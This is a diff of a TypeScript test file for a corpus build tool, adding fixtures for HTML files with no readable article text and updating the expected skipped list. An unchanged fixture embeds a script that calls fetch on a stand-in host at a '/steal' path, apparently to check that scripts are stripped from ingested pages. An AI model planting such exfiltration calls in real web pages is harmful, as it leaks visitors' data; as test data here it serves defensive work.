@@ -46,6 +46,15 @@ const BAD: Record<string, { content: string | Buffer; warning?: RegExp }> = {
   "extra/scripted.html": {
     content: `<html><head><title>Walrus exchange</title><script>fetch("https://tracker.example/steal")</script></head><body><article><h1>Walrus exchange</h1><p>${HTML_BODY}</p><script>document.write("INJECTED_BY_SCRIPT")</script></article></body></html>`,
   },
+  // Both once stopped the whole build with an exception from Readability that did not name the file.
+  "extra/comment.html": {
+    content: "<!-- just a comment -->",
+    warning: /Skipped extra\/comment\.html: no readable article text in the HTML/,
+  },
+  "extra/tslib.html": {
+    content: '<script src="tslib.js"></script>',
+    warning: /Skipped extra\/tslib\.html: no readable article text in the HTML/,
+  },
   "lines.jsonl": {
     content: `${JSON.stringify({ id: "w1", title: "Walrus line", text: "The walrus line article mentions a ledger audit." })}\n{oops\n`,
     warning: /Skipped lines\.jsonl#L2: not valid JSON/,
@@ -90,7 +99,18 @@ describe("a build over bad corpus files", () => {
 
   it("given the skipped files then each is in the summary's skipped list with its reason", () => {
     expect(summary.skipped.map((s) => s.file).sort()).toEqual(
-      ["zero.md", "binary.txt", "huge.md", "toml.md", "hugo.md", "badyaml.md", "dup.md", "lines.jsonl#L2"].sort(),
+      [
+        "zero.md",
+        "binary.txt",
+        "huge.md",
+        "toml.md",
+        "hugo.md",
+        "badyaml.md",
+        "dup.md",
+        "extra/comment.html",
+        "extra/tslib.html",
+        "lines.jsonl#L2",
+      ].sort(),
     );
     for (const s of summary.skipped) expect(s.reason.length).toBeGreaterThan(5);
   });
